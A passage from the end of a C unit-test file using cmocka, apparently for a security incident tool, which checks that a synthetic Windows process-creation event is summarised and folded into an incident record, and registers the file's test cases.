	pin("channel and id at the ceiling", "Security 468", 13);
}

/* Folded into a record: the summary rides with the evidence line. */
static void test_summary_in_incident(void **state)
{
	struct incident_set *s = incident_set_new();
	const struct synth x = {
		&rule_sudo, T0, 1, NULL, "bob", NULL, "ws1", NULL,
		"{\"EventID\":\"4688\",\"Channel\":\"Security\","
		"\"NewProcessName\":\"C:\\\\w\\\\a.exe\"}", 9,
	};
	const struct incident *inc;

	(void)state;
	assert_int_equal(synth_add(s, &x), 0);
	assert_int_equal(incident_build(s), 0);
	inc = incident_set_get(s, 0);
	assert_int_equal(inc->nevidence, 1);
	assert_string_equal(inc->evidence[0].summary.p,
			    "Security 4688 | NewProcessName=C:\\w\\a.exe");
	assert_int_equal(inc->platforms, 1u << INCIDENT_PLAT_WINDOWS);
	incident_set_free(s);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_platform_of),
		cmocka_unit_test(test_summary_of_text),
		cmocka_unit_test(test_summary_of_event),
		cmocka_unit_test(test_summary_of_long_eve),
		cmocka_unit_test(test_summary_of_padded_command),
		cmocka_unit_test(test_summary_in_incident),
		cmocka_unit_test(test_pinned_duplicate_names),
		cmocka_unit_test(test_pinned_many_fields),
		cmocka_unit_test(test_pinned_long_values),
		cmocka_unit_test(test_pinned_sids),
		cmocka_unit_test(test_pinned_control_bytes),
		cmocka_unit_test(test_pinned_ceiling),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
